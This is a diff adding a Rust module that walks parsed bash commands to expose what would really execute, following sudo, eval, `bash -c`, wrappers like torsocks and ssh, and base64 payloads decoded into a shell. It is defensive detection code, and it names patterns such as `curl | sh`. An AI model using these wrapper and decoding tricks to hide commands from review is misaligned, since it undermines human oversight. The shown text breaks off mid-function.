@@ -1,0 +1,1147 @@
+//! Walks a parsed command the way bash would run it and flattens everything
+//! that would execute into a list of [`Command`]s.
+
+use std::collections::HashMap;
+
+use brush_parser::ast;
+
+use crate::{command_name, decode, lex, word};
+
+/// Bounds on what one input may cost.
+#[derive(Debug, Clone, Copy)]
+pub struct Limits {
+    /// How deep `bash -c`, `eval`, wrappers and decoded payloads are followed.
+    pub max_depth: usize,
+    /// Stop recording after this many commands.
+    pub max_commands: usize,
+    /// Longer texts skip the full parser and go to the line-by-line path.
+    pub max_parse_bytes: usize,
+    /// Deeper bracket nesting skips the (recursive) parser.
+    pub max_nesting: usize,
+}
+
+impl Default for Limits {
+    fn default() -> Self {
+        Limits { max_depth: 8, max_commands: 4096, max_parse_bytes: 64 * 1024, max_nesting: 48 }
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub enum Stdin {
+    None,
+    /// Fed by the command at this index in [`Analysis::commands`].
+    Pipe(usize),
+    /// A heredoc or here-string.
+    Text(String),
+    File(String),
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RedirectOp {
+    Read,
+    Write,
+    Append,
+    /// `>&`, `<&`: duplicating a descriptor or, with a path, `&>`.
+    Dup,
+    ReadWrite,
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct Redirect {
+    pub fd: Option<i32>,
+    pub op: RedirectOp,
+    pub target: String,
+}
+
+/// Inline interpreter code: `python -c`, `perl -e`, awk programs, heredocs fed to interpreters.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Code {
+    pub lang: &'static str,
+    pub text: String,
+}
+
+#[derive(Debug, Clone)]
+pub struct Command {
+    /// Normalised program name (see [`command_name`]); empty for a bare assignment.
+    pub name: String,
+    pub argv: Vec<String>,
+    /// Byte span in the original input of the text this command came from.
+    pub span: (usize, usize),
+    /// 0 for commands written directly; +1 per `bash -c`, `eval`, decoded payload, substitution.
+    pub depth: usize,
+    /// Wrappers this command runs under, outermost first (`sudo`, `timeout`, `bash -c`, ...).
+    pub via: Vec<String>,
+    /// Runs under sudo, doas, su, pkexec.
+    pub privileged: bool,
+    pub stdin: Stdin,
+    pub redirects: Vec<Redirect>,
+    /// `NAME=value` assignments in front of the command (or on their own when `name` is empty).
+    pub assignments: Vec<(String, String)>,
+    pub code: Option<Code>,
+    /// A shell started with no script and no `-c`: an interactive shell.
+    pub interactive_shell: bool,
+    /// Evasion tricks used in this command's words.
+    pub tricks: Vec<&'static str>,
+    /// The program name itself was built from quotes, escapes or expansions.
+    pub name_built: bool,
+    /// Index of the pipeline this command belongs to.
+    pub pipeline: usize,
+    /// What it prints, when that is known statically (echo, printf, decoders of known input).
+    pub output: Option<String>,
+    /// The command is a decoder (base64 -d, xxd -r, rev, ...).
+    pub decoder: Option<&'static str>,
+}
+
+impl Command {
+    pub fn args(&self) -> &[String] {
+        self.argv.get(1..).unwrap_or(&[])
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub enum SignalKind {
+    /// The parser rejected the text; it was analysed line by line.
+    ParseFailed,
+    /// Wrappers or payloads nested beyond `max_depth`.
+    TooDeep,
+    /// Input longer than the limits; the rest was not analysed.
+    Truncated,
+    /// A payload decoded (base64, hex, rev) on its way into a shell or interpreter.
+    DecodedPayload(&'static str),
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct Signal {
+    pub kind: SignalKind,
+    pub span: (usize, usize),
+    pub detail: String,
+}
+
+#[derive(Debug, Default)]
+pub struct Analysis {
+    pub commands: Vec<Command>,
+    pub signals: Vec<Signal>,
+}
+
+impl Analysis {
+    pub fn parse_failed(&self) -> bool {
+        self.signals.iter().any(|s| s.kind == SignalKind::ParseFailed)
+    }
+}
+
+/// Analyse one shell command text.
+pub fn analyze(input: &str, limits: &Limits) -> Analysis {
+    let mut w = Walker {
+        limits: *limits,
+        out: Analysis::default(),
+        vars: HashMap::new(),
+        aliases: HashMap::new(),
+        pipelines: 0,
+    };
+    let frame = Frame { depth: 0, via: Vec::new(), privileged: false, span: None, pipe_in: None, base: 0 };
+    w.parse(input, &frame);
+    w.out
+}
+
+const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "yash", "posh", "fish", "tcsh", "csh", "rbash", "elvish", "sash", "nu"];
+
+pub(crate) fn is_shell(name: &str) -> bool {
+    SHELLS.contains(&name)
+}
+
+#[derive(Clone)]
+struct Frame {
+    depth: usize,
+    via: Vec<String>,
+    privileged: bool,
+    /// Span to report for everything in this frame (nested texts have no own offsets).
+    span: Option<(usize, usize)>,
+    pipe_in: Option<usize>,
+    /// Byte offset of this frame's text in the original input (top-level and line fallback).
+    base: usize,
+}
+
+struct Walker {
+    limits: Limits,
+    out: Analysis,
+    vars: HashMap<String, String>,
+    aliases: HashMap<String, String>,
+    pipelines: usize,
+}
+
+/// Character index (brush reports chars) to byte offset.
+fn byte_offset(text: &str, char_index: usize) -> usize {
+    if text.is_ascii() {
+        return char_index.min(text.len());
+    }
+    text.char_indices().nth(char_index).map(|(b, _)| b).unwrap_or(text.len())
+}
+
+struct WordEnv<'a> {
+    walker: &'a mut Walker,
+    frame: &'a Frame,
+}
+
+impl word::Env for WordEnv<'_> {
+    fn var(&self, name: &str) -> Option<String> {
+        self.walker.vars.get(name).cloned()
+    }
+    fn substitute(&mut self, body: &str) -> Option<String> {
+        let mut f = self.frame.clone();
+        f.depth += 1;
+        f.pipe_in = None;
+        if f.depth > self.walker.limits.max_depth {
+            return None;
+        }
+        let first = self.walker.out.commands.len();
+        self.walker.parse(body, &f);
+        let last = self.walker.out.commands.len().checked_sub(1).filter(|l| *l >= first)?;
+        let cmd = &self.walker.out.commands[last];
+        let out = cmd.output.clone()?;
+        if let Some(enc) = cmd.decoder {
+            let span = cmd.span;
+            self.walker.out.signals.push(Signal { kind: SignalKind::DecodedPayload(enc), span, detail: out.trim().to_string() });
+        }
+        Some(out.trim_end_matches('\n').to_string())
+    }
+}
+
+impl Walker {
+    fn full(&self) -> bool {
+        self.out.commands.len() >= self.limits.max_commands
+    }
+
+    fn parse(&mut self, text: &str, frame: &Frame) {
+        if frame.depth > self.limits.max_depth {
+            let span = frame.span.unwrap_or((frame.base, frame.base + text.len()));
+            self.out.signals.push(Signal { kind: SignalKind::TooDeep, span, detail: format!("nesting deeper than {}", self.limits.max_depth) });
+            return;
+        }
+        if self.full() {
+            return;
+        }
+        if text.len() > self.limits.max_parse_bytes || lex::max_nesting(text) > self.limits.max_nesting {
+            self.fallback(text, frame, false);
+            return;
+        }
+        let opts = brush_parser::ParserOptions::default();
+        match brush_parser::Parser::new(std::io::Cursor::new(text), &opts).parse_program() {
+            Ok(program) => {
+                for list in &program.complete_commands {
+                    self.compound_list(list, text, frame);
+                }
+            }
+            Err(_) => self.fallback(text, frame, true),
+        }
+    }
+
+    /// Text the parser rejected or that is too large for it: parse line by
+    /// line, and split what still fails with a tolerant word splitter.
+    fn fallback(&mut self, text: &str, frame: &Frame, rejected: bool) {
+        let whole = frame.span.unwrap_or((frame.base, frame.base + text.len()));
+        let mut offset = 0;
+        let mut failed_lines = 0;
+        for line in text.split_inclusive('\n') {
+            if self.full() {
+                break;
+            }
+            let start = offset;
+            offset += line.len();
+            let trimmed = line.trim_end_matches('\n');
+            if trimmed.trim().is_empty() {
+                continue;
+            }
+            let mut f = frame.clone();
+            f.base = frame.base + start;
+            let parsed = trimmed.len() <= self.limits.max_parse_bytes
+                && lex::max_nesting(trimmed) <= self.limits.max_nesting
+                && (text.contains('\n') || !rejected)
+                && brush_parser::Parser::new(std::io::Cursor::new(trimmed), &brush_parser::ParserOptions::default())
+                    .parse_program()
+                    .map(|p| {
+                        for list in &p.complete_commands {
+                            self.compound_list(list, trimmed, &f);
+                        }
+                    })
+                    .is_ok();
+            if parsed {
+                continue;
+            }
+            failed_lines += 1;
+            // Bound the tolerant path too: a single huge line is split only up to the parse limit.
+            let cut = floor_char_boundary(trimmed, self.limits.max_parse_bytes);
+            for (words, (s, e)) in lex::tolerant_split(&trimmed[..cut]) {
+                if self.full() {
+                    break;
+                }
+                let span = frame.span.unwrap_or((f.base + s, f.base + e));
+                let mut g = f.clone();
+                g.span = Some(span);
+                let words: Vec<String> = words.iter().flat_map(|w| self.eval_word(w, &g).fields).collect();
+                let template = self.template(&g, Stdin::None);
+                self.dispatch(words, template, &g);
+            }
+            if trimmed.len() > cut {
+                self.out.signals.push(Signal { kind: SignalKind::Truncated, span: whole, detail: format!("line of {} bytes analysed on its first {cut}", trimmed.len()) });
+            }
+        }
+        if rejected || failed_lines > 0 {
+            self.out.signals.push(Signal {
+                kind: SignalKind::ParseFailed,
+                span: whole,
+                detail: format!("{failed_lines} line(s) could not be parsed as shell"),
+            });
+        }
+    }
+
+    fn span_of(&self, loc: Option<brush_parser::SourceSpan>, text: &str, frame: &Frame) -> (usize, usize) {
+        if let Some(s) = frame.span {
+            return s;
+        }
+        match loc {
+            Some(l) => (frame.base + byte_offset(text, l.start.index), frame.base + byte_offset(text, l.end.index)),
+            None => (frame.base, frame.base + text.len()),
+        }
+    }
+
+    fn compound_list(&mut self, list: &ast::CompoundList, text: &str, frame: &Frame) {
+        for item in &list.0 {
+            self.and_or(&item.0, text, frame);
+        }
+    }
+
+    fn and_or(&mut self, list: &ast::AndOrList, text: &str, frame: &Frame) {
+        self.pipeline(&list.first, text, frame);
+        for next in &list.additional {
+            match next {
+                ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p, text, frame),
+            }
+        }
+    }
+
+    fn pipeline(&mut self, p: &ast::Pipeline, text: &str, frame: &Frame) {
+        self.pipelines += 1;
+        let mut prev: Option<usize> = frame.pipe_in;
+        for cmd in &p.seq {
+            let first = self.out.commands.len();
+            let mut f = frame.clone();
+            f.pipe_in = prev;
+            self.command(cmd, text, &f);
+            let now = self.out.commands.len();
+            prev = if now > first { self.main_command(first, now) } else { None };
+        }
+    }
+
+    /// The command whose output leaves a pipeline element: the last one at
+    /// the element's own depth (wrappers record the inner command last).
+    fn main_command(&self, first: usize, end: usize) -> Option<usize> {
+        let base_depth = self.out.commands[first].depth;
+        (first..end).rev().find(|&i| self.out.commands[i].depth == base_depth || !self.out.commands[i].via.is_empty()).or(Some(end - 1))
+    }
+
+    fn command(&mut self, cmd: &ast::Command, text: &str, frame: &Frame) {
+        if self.full() {
+            return;
+        }
+        match cmd {
+            ast::Command::Simple(sc) => self.simple(sc, text, frame),
+            ast::Command::Compound(cc, redirects) => {
+                let first = self.out.commands.len();
+                self.compound(cc, text, frame);
+                if let Some(list) = redirects {
+                    let mut reds = Vec::new();
+                    let mut stdin = None;
+                    for r in &list.0 {
+                        self.redirect(r, frame, &mut reds, &mut stdin);
+                    }
+                    for c in &mut self.out.commands[first..] {
+                        c.redirects.extend(reds.iter().cloned());
+                        if let Some(s) = &stdin {
+                            if c.stdin == Stdin::None {
+                                c.stdin = s.clone();
+                            }
+                        }
+                    }
+                }
+            }
+            ast::Command::Function(def) => {
+                self.compound(&def.body.0, text, frame);
+            }
+            ast::Command::ExtendedTest(..) => {}
+        }
+    }
+
+    fn compound(&mut self, cc: &ast::CompoundCommand, text: &str, frame: &Frame) {
+        match cc {
+            ast::CompoundCommand::BraceGroup(g) => self.compound_list(&g.list, text, frame),
+            ast::CompoundCommand::Subshell(s) => self.compound_list(&s.list, text, frame),
+            ast::CompoundCommand::ForClause(f) => {
+                if let Some(values) = &f.values {
+                    for v in values {
+                        self.eval_word(&v.value, frame);
+                    }
+                }
+                self.compound_list(&f.body.list, text, frame);
+            }
+            ast::CompoundCommand::ArithmeticForClause(f) => self.compound_list(&f.body.list, text, frame),
+            ast::CompoundCommand::CaseClause(c) => {
+                self.eval_word(&c.value.value, frame);
+                for item in &c.cases {
+                    if let Some(list) = &item.cmd {
+                        self.compound_list(list, text, frame);
+                    }
+                }
+            }
+            ast::CompoundCommand::IfClause(c) => {
+                self.compound_list(&c.condition, text, frame);
+                self.compound_list(&c.then, text, frame);
+                for e in c.elses.iter().flatten() {
+                    if let Some(cond) = &e.condition {
+                        self.compound_list(cond, text, frame);
+                    }
+                    self.compound_list(&e.body, text, frame);
+                }
+            }
+            ast::CompoundCommand::WhileClause(c) | ast::CompoundCommand::UntilClause(c) => {
+                self.compound_list(&c.0, text, frame);
+                self.compound_list(&c.1.list, text, frame);
+            }
+            ast::CompoundCommand::Coprocess(c) => self.command(&c.body, text, frame),
+            ast::CompoundCommand::Arithmetic(_) => {}
+        }
+    }
+
+    fn eval_word(&mut self, raw: &str, frame: &Frame) -> word::Evaluated {
+        let mut env = WordEnv { walker: self, frame };
+        word::eval(raw, &mut env)
+    }
+
+    fn template(&self, frame: &Frame, stdin: Stdin) -> Command {
+        Command {
+            name: String::new(),
+            argv: Vec::new(),
+            span: frame.span.unwrap_or((frame.base, frame.base)),
+            depth: frame.depth,
+            via: frame.via.clone(),
+            privileged: frame.privileged,
+            stdin,
+            redirects: Vec::new(),
+            assignments: Vec::new(),
+            code: None,
+            interactive_shell: false,
+            tricks: Vec::new(),
+            name_built: false,
+            pipeline: self.pipelines,
+            output: None,
+            decoder: None,
+        }
+    }
+
+    fn simple(&mut self, sc: &ast::SimpleCommand, text: &str, frame: &Frame) {
+        use ast::CommandPrefixOrSuffixItem as Item;
+        let span = self.span_of(ast::SourceLocation::location(sc), text, frame);
+        let mut f = frame.clone();
+        f.span = Some(span);
+        let mut cmd = self.template(&f, frame.pipe_in.map(Stdin::Pipe).unwrap_or(Stdin::None));
+        let mut argv: Vec<String> = Vec::new();
+        let mut stdin = None;
+        let mut first_word = true;
+        let items = sc.prefix.iter().flat_map(|p| p.0.iter()).map(|i| (true, i));
+        let name = sc.word_or_name.iter().map(|w| (false, w));
+        let suffix = sc.suffix.iter().flat_map(|s| s.0.iter());
+        let handle = |w: &mut Walker, item: &Item, argv: &mut Vec<String>, cmd: &mut Command, stdin: &mut Option<Stdin>, first_word: &mut bool| match item {
+            Item::IoRedirect(r) => w.redirect(r, &f, &mut cmd.redirects, stdin),
+            Item::Word(word) => w.push_word(&word.value, &f, argv, cmd, first_word),
+            Item::AssignmentWord(a, _) => {
+                let name = match &a.name {
+                    ast::AssignmentName::VariableName(n) => n.clone(),
+                    ast::AssignmentName::ArrayElementName(n, _) => n.clone(),
+                };
+                let value = match &a.value {
+                    ast::AssignmentValue::Scalar(v) => w.eval_word(&v.value, &f).fields.join(" "),
+                    ast::AssignmentValue::Array(items) => items.iter().map(|(_, v)| w.eval_word(&v.value, &f).fields.join(" ")).collect::<Vec<_>>().join(" "),
+                };
+                cmd.assignments.push((name, value));
+            }
+            Item::ProcessSubstitution(_, sub) => {
+                let mut g = f.clone();
+                g.depth += 1;
+                g.pipe_in = None;
+                w.compound_list(&sub.list, text, &g);
+                if !argv.is_empty() {
+                    argv.push("/dev/fd/63".into());
+                }
+            }
+        };
+        for (_, item) in items {
+            handle(self, item, &mut argv, &mut cmd, &mut stdin, &mut first_word);
+        }
+        for (_, w) in name {
+            self.push_word(&w.value, &f, &mut argv, &mut cmd, &mut first_word);
+        }
+        for item in suffix {
+            handle(self, item, &mut argv, &mut cmd, &mut stdin, &mut first_word);
+        }
+        if let Some(s) = stdin {
+            cmd.stdin = s;
+        }
+        if argv.is_empty() {
+            // Bare assignments persist for the rest of the command.
+            for (k, v) in &cmd.assignments {
+                self.vars.insert(k.clone(), v.clone());
+            }
+            if !cmd.assignments.is_empty() || !cmd.redirects.is_empty() {
+                self.out.commands.push(cmd);
+            }
+            return;
+        }
+        // `export X=1`, `declare X=1`, `local X=1`, `readonly X=1` also assign.
+        if matches!(argv[0].as_str(), "export" | "declare" | "local" | "readonly" | "typeset") {
+            for (k, v) in &cmd.assignments {
+                self.vars.insert(k.clone(), v.clone());
+            }
+            for a in &argv[1..] {
+                if let Some((k, v)) = a.split_once('=') {
+                    if !k.is_empty() && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
+                        self.vars.insert(k.to_string(), v.to_string());
+                        cmd.assignments.push((k.to_string(), v.to_string()));
+                    }
+                }
+            }
+        }
+        self.dispatch(argv, cmd, &f);
+    }
+
+    fn push_word(&mut self, raw: &str, frame: &Frame, argv: &mut Vec<String>, cmd: &mut Command, first_word: &mut bool) {
+        let ev = self.eval_word(raw, frame);
+        if *first_word {
+            cmd.name_built = ev.non_literal && !(raw.starts_with('"') && raw.ends_with('"') && !raw.contains('$'));
+            *first_word = false;
+        }
+        cmd.tricks.extend(ev.tricks);
+        argv.extend(ev.fields);
+    }
+
+    fn redirect(&mut self, r: &ast::IoRedirect, frame: &Frame, reds: &mut Vec<Redirect>, stdin: &mut Option<Stdin>) {
+        match r {
+            ast::IoRedirect::File(fd, kind, target) => {
+                let target_text = match target {
+                    ast::IoFileRedirectTarget::Filename(w) | ast::IoFileRedirectTarget::Duplicate(w) => self.eval_word(&w.value, frame).fields.join(" "),
+                    ast::IoFileRedirectTarget::Fd(n) => n.to_string(),
+                    ast::IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
+                        let mut g = frame.clone();
+                        g.depth += 1;
+                        g.pipe_in = None;
+                        let text = sub.list.to_string();
+                        self.parse(&text, &g);
+                        "/dev/fd/63".into()
+                    }
+                };
+                let op = match kind {
+                    ast::IoFileRedirectKind::Read => RedirectOp::Read,
+                    ast::IoFileRedirectKind::Write | ast::IoFileRedirectKind::Clobber => RedirectOp::Write,
+                    ast::IoFileRedirectKind::Append => RedirectOp::Append,
+                    ast::IoFileRedirectKind::ReadAndWrite => RedirectOp::ReadWrite,
+                    ast::IoFileRedirectKind::DuplicateInput | ast::IoFileRedirectKind::DuplicateOutput => RedirectOp::Dup,
+                };
+                if op == RedirectOp::Read && fd.unwrap_or(0) == 0 {
+                    *stdin = Some(Stdin::File(target_text.clone()));
+                }
+                reds.push(Redirect { fd: *fd, op, target: target_text });
+            }
+            ast::IoRedirect::HereDocument(_, doc) => {
+                let body = if doc.requires_expansion { self.eval_heredoc(&doc.doc.value, frame) } else { doc.doc.value.clone() };
+                *stdin = Some(Stdin::Text(body));
+            }
+            ast::IoRedirect::HereString(_, w) => {
+                let mut s = self.eval_word(&w.value, frame).fields.join(" ");
+                s.push('\n');
+                *stdin = Some(Stdin::Text(s));
+            }
+            ast::IoRedirect::OutputAndError(w, append) => {
+                let target = self.eval_word(&w.value, frame).fields.join(" ");
+                reds.push(Redirect { fd: None, op: if *append { RedirectOp::Append } else { RedirectOp::Dup }, target });
+            }
+        }
+    }
+
+    /// Heredoc bodies expand `$x` and `$(...)` but keep quotes literally.
+    fn eval_heredoc(&mut self, body: &str, frame: &Frame) -> String {
+        if !body.contains('$') && !body.contains('`') {
+            return body.to_string();
+        }
+        // Quote characters are literal in heredocs: evaluate each line as a double-quoted word.
+        let escaped = body.replace('\\', "\\\\").replace('"', "\\\"");
+        let ev = self.eval_word(&format!("\"{escaped}\""), frame);
+        ev.fields.join(" ")
+    }
+
+    /// Record a command and follow what it runs.
+    fn dispatch(&mut self, mut argv: Vec<String>, mut cmd: Command, frame: &Frame) {
+        if self.full() || argv.is_empty() {
+            return;
+        }
+        if let Some(alias) = self.aliases.get(&argv[0]).cloned() {
+            let mut expanded: Vec<String> = alias.split_whitespace().map(str::to_string).collect();
+            expanded.extend(argv.drain(1..));
+            argv = expanded;
+        }
+        let name = command_name(&argv[0]);
+        cmd.name = name.clone();
+        cmd.argv = argv;
+        self.derive(&mut cmd);
+        let idx = self.out.commands.len();
+        let argv = cmd.argv.clone();
+        let stdin = cmd.stdin.clone();
+        let span = cmd.span;
+        self.out.commands.push(cmd);
+        let mut inner = frame.clone();
+        inner.span = Some(span);
+        inner.via.push(name.clone());
+        let args = &argv[1..];
+        match name.as_str() {
+            "sudo" | "doas" | "pkexec" | "run0" | "runuser" => {
+                inner.privileged = true;
+                let rest = skip_options(args, &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "-R", "--user", "--group", "--chdir", "--prompt", "--role", "--type", "-l", "--login"], name == "runuser");
+                if rest.is_empty() {
+                    if args.iter().any(|a| a == "-s" || a == "-i" || a == "--shell" || a == "--login") {
+                        self.out.commands[idx].interactive_shell = true;
+                    }
+                    return;
+                }
+                if let Some(script) = option_value(args, &["-c", "--command"]).filter(|_| name == "runuser") {
+                    inner.depth += 1;
+                    self.parse(&script, &inner);
+                    return;
+                }
+                self.run_inner(rest, stdin, &inner);
+            }
+            "su" => {
+                inner.privileged = true;
+                if let Some(script) = option_value(args, &["-c", "--command", "-s", "--shell"]) {
+                    inner.depth += 1;
+                    self.parse(&script, &inner);
+                } else {
+                    self.out.commands[idx].interactive_shell = true;
+                }
+            }
+            "env" => {
+                let mut i = 0;
+                let mut assigns = Vec::new();
+                while i < args.len() {
+                    let a = &args[i];
+                    if a == "-u" || a == "-C" || a == "--unset" || a == "--chdir" || a == "-a" {
+                        i += 2;
+                    } else if a == "-S" || a == "--split-string" {
+                        if let Some(s) = args.get(i + 1) {
+                            let mut parts: Vec<String> = s.split_whitespace().map(str::to_string).collect();
+                            parts.extend(args[i + 2..].iter().cloned());
+                            self.run_inner(&parts, stdin, &inner);
+                        }
+                        return;
+                    } else if a.starts_with('-') {
+                        i += 1;
+                    } else if let Some((k, v)) = a.split_once('=').filter(|(k, _)| !k.is_empty() && !k.contains('/')) {
+                        assigns.push((k.to_string(), v.to_string()));
+                        i += 1;
+                    } else {
+                        break;
+                    }
+                }
+                self.out.commands[idx].assignments.extend(assigns);
+                if i < args.len() {
+                    self.run_inner(&args[i..], stdin, &inner);
+                }
+            }
+            "eval" => {
+                inner.depth += 1;
+                self.parse(&args.join(" "), &inner);
+            }
+            "exec" | "command" | "builtin" | "nohup" | "setsid" | "time" | "unbuffer" | "torsocks" | "proxychains" | "proxychains4" | "fakeroot" | "catchsegv" | "rlwrap" | "multitime" | "pexec" | "aa-exec" | "grc" | "firejail" | "stdbuf" | "nice" | "ionice" | "choom" | "doas-exec" | "sg" | "unshare" | "nsenter" | "systemd-run" | "strace" | "ltrace" | "valgrind" | "perf" | "xdotool" | "ip" | "timeout" | "chroot" | "flock" | "taskset" | "chrt" | "setarch" | "start-stop-daemon" | "cabal" | "npm" | "yarn" | "npx" | "bundle" | "task" | "tmate" | "busybox" | "watch" | "script" | "xargs" | "find" | "ssh" | "trap" | "alias" => {
+                self.wrapper(&name, args, stdin, &mut inner, idx);
+            }
+            n if is_shell(n) => self.shell(args, stdin, &mut inner, idx),
+            _ => {}
+        }
+    }
+
+    fn run_inner(&mut self, argv: &[String], stdin: Stdin, frame: &Frame) {
+        if argv.is_empty() {
+            return;
+        }
+        let mut f = frame.clone();
+        if f.depth > self.limits.max_depth {
+            return;
+        }
+        f.depth += 1;
+        let cmd = self.template(&f, stdin);
+        self.dispatch(argv.to_vec(), cmd, &f);
+    }
+
+    /// Programs that run another program given on their command line.
+    fn wrapper(&mut self, name: &str, args: &[String], stdin: Stdin, inner: &mut Frame, idx: usize) {
+        let parse_joined = |w: &mut Walker, parts: &[String], f: &mut Frame| {
+            if !parts.is_empty() {
+                f.depth += 1;
+                w.parse(&parts.join(" "), f);
+            }
+        };
+        match name {
+            "exec" | "nohup" | "setsid" | "time" | "unbuffer" | "torsocks" | "proxychains" | "proxychains4" | "fakeroot" | "catchsegv" | "rlwrap" | "multitime" | "pexec" | "grc" | "busybox" => {
+                let rest = skip_options(args, &["-a", "-f"], false);
+                self.run_inner(rest, stdin, inner);
+            }
+            "command" | "builtin" => {
+                if !args.iter().any(|a| a == "-v" || a == "-V") {
+                    self.run_inner(skip_options(args, &[], false), stdin, inner);
+                }
+            }
+            "nice" | "ionice" | "choom" | "stdbuf" | "aa-exec" | "sg" | "unshare" | "firejail" | "systemd-run" | "valgrind" => {
+                let with_value = ["-n", "-c", "-p", "-t", "-i", "-o", "-e", "--adjustment", "--class", "--classdata", "-u", "--unit", "--uid", "--gid", "-g", "-E", "--setenv", "-d", "--profile", "-r"];
+                if name == "systemd-run" && args.iter().any(|a| a == "-S" || a == "--shell") {
+                    self.out.commands[idx].interactive_shell = true;
+                }
+                self.run_inner(skip_options(args, &with_value, false), stdin, inner);
+            }
+            "strace" | "ltrace" => {
+                self.run_inner(skip_options(args, &["-o", "-e", "-p", "-s", "-u", "-E", "-P", "-a", "-b", "-I", "-X", "-L", "-n"], false), stdin, inner);
+            }
+            "perf" => {
+                if args.first().map(|a| a == "stat" || a == "record" || a == "trace").unwrap_or(false) {
+                    self.run_inner(skip_options(&args[1..], &["-e", "-o", "-p", "-r", "-C", "-G", "-x"], false), stdin, inner);
+                }
+            }
+            "xdotool" => {
+                if let Some(p) = args.iter().position(|a| a == "exec") {
+                    self.run_inner(skip_options(&args[p + 1..], &["--terminator"], false), stdin, inner);
+                }
+            }
+            "ip" => {
+                if args.len() > 3 && args[0] == "netns" && args[1] == "exec" {
+                    self.run_inner(&args[3..], stdin, inner);
+                }
+            }
+            "nsenter" => self.run_inner(skip_options(args, &["-t", "--target", "-S", "-G"], false), stdin, inner),
+            "timeout" | "chroot" | "flock" | "taskset" | "chrt" | "setarch" => {
+                let rest = skip_options(args, &["-s", "--signal", "-k", "--kill-after", "-w", "--userspec", "--groups", "-E", "--conflict-exit-code"], false);
+                let skip = if name == "taskset" && args.iter().any(|a| a == "-p") { rest.len() } else { 1 };
+                if rest.len() > skip {
+                    self.run_inner(&rest[skip..], stdin, inner);
+                }
+            }
+            "start-stop-daemon" => {
+                if let Some(exe) = option_value(args, &["-x", "--exec", "-a", "--startas"]) {
+                    let mut argv = vec![exe];
+                    if let Some(p) = args.iter().position(|a| a == "--") {
+                        argv.extend(args[p + 1..].iter().cloned());
+                    }
+                    self.run_inner(&argv, stdin, inner);
+                }
+            }
+            "cabal" | "npm" | "yarn" | "npx" | "bundle" | "task" | "tmate" => {
+                // `npm exec CMD`, `yarn exec CMD`, `bundle exec CMD`, `cabal exec -- CMD`, `tmate -c CMD`.
+                if let Some(p) = args.iter().position(|a| a == "exec" || a == "execute" || a == "-c") {
+                    let rest = &args[p + 1..];
+                    let rest = match rest.iter().position(|a| a == "--") {
+                        Some(d) => &rest[d + 1..],
+                        None => skip_options(rest, &["--project-file", "-c", "--package", "-p"], false),
+                    };
+                    if name == "tmate" {
+                        parse_joined(self, rest, inner);
+                    } else {
+                        self.run_inner(rest, stdin, inner);
+                    }
+                }
+            }
+            "watch" => parse_joined(self, skip_options(args, &["-n", "--interval", "-d", "-q"], false), inner),
+            "script" => {
+                if let Some(c) = option_value(args, &["-c", "--command"]) {
+                    inner.depth += 1;
+                    self.parse(&c, inner);
+                } else if args.iter().all(|a| a.starts_with('-') || a == "/dev/null") {
+                    self.out.commands[idx].interactive_shell = true;
+                }
+            }
+            "trap" => {
+                if let Some(code) = args.first().filter(|a| *a != "-" && *a != "-p" && *a != "-l") {
+                    inner.depth += 1;
+                    self.parse(code, inner);
+                }
+            }
+            "alias" => {
+                for a in args {
+                    if let Some((k, v)) = a.split_once('=') {
+                        self.aliases.insert(k.to_string(), v.to_string());
+                        let mut f = inner.clone();
+                        f.depth += 1;
+                        self.parse(v, &f);
+                    }
+                }
+            }
+            "xargs" => {
+                let rest = skip_options(args, &["-I", "-i", "-n", "-P", "-d", "-L", "-l", "-s", "-E", "-e", "-a", "--max-args", "--max-procs", "--delimiter", "--arg-file", "--replace"], false);
+                // xargs feeds its stdin as arguments; the inner program's stdin is not that pipe.
+                self.run_inner(rest, Stdin::None, inner);
+            }
+            "find" => {
+                let mut i = 0;
+                while i < args.len() {
+                    if matches!(args[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
+                        let end = args[i + 1..].iter().position(|a| a == ";" || a == "+" || a == "\\;").map(|p| i + 1 + p).unwrap_or(args.len());
+                        self.run_inner(&args[i + 1..end], Stdin::None, inner);
+                        i = end;
+                    }
+                    i += 1;
+                }
+            }
+            "ssh" => {
+                // The remote command, if any, follows the destination.
+                let rest = skip_options(args, &["-p", "-i", "-l", "-o", "-L", "-R", "-D", "-W", "-w", "-b", "-c", "-E", "-F", "-I", "-J", "-m", "-O", "-Q", "-S", "-e", "-B"], false);
+                if rest.len() > 1 {
+                    parse_joined(self, &rest[1..], inner);
+                }
+            }
+            _ => {}
+        }
+    }
+
+    /// `sh -c STR`, `bash script.sh`, `sh < payload`, `curl | sh`, bare `sh`.
+    fn shell(&mut self, args: &[String], stdin: Stdin, inner: &mut Frame, idx: usize) {
+        let mut i = 0;
+        let mut reads_stdin = false;
+        while i < args.len() {
+            let a = &args[i];
+            if a == "--" {
+                i += 1;
+                break;
+            }
+            if a.starts_with("--") {
+                if a == "--rcfile" || a == "--init-file" {
+                    i += 1;
+                }
+                i += 1;
+                continue;
+            }
+            if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 {
+                if a[1..].contains('c') && a.starts_with('-') {
+                    if let Some(script) = args.get(i + 1) {
+                        inner.depth += 1;
+                        self.parse(script, inner);
+                    }
+                    return;
+                }
+                if a[1..].contains('s') {
+                    reads_stdin = true;
+                }
+                if a == "-o" || a == "+o" || a == "-O" || a == "+O" {
+                    i += 1;
+                }
+                i += 1;
+                continue;
+            }
+            break;
+        }
+        if i < args.len() && !reads_stdin {
+            return; // a script file: its content is not in the command
+        }
+        let payload = match &stdin {
+            Stdin::Text(t) => Some((t.clone(), None)),
+            Stdin::Pipe(j) => {
+                let src = &self.out.commands[*j];
+                src.output.clone().map(|o| (o, src.decoder))
+            }
+            Stdin::File(_) => None,
+            Stdin::None => {
+                self.out.commands[idx].interactive_shell = true;
+                None
+            }
+        };
+        if let Some((text, decoder)) = payload {
+            if let Some(enc) = decoder {
+                let span = self.out.commands[idx].span;
+                self.out.signals.push(Signal { kind: SignalKind::DecodedPayload(enc), span, detail: text.trim().to_string() });
+            }
